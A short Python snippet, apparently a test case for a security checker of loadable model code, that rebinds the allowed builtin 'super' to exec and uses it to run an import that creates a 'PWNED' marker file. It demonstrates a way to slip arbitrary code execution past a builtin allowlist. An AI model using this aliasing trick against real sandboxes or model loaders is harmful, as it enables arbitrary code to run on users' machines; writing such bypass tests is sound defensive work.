# Rebinding an allowed builtin at module level.
from torch import nn

super = exec
super("__import__('pathlib').Path('PWNED').touch()")
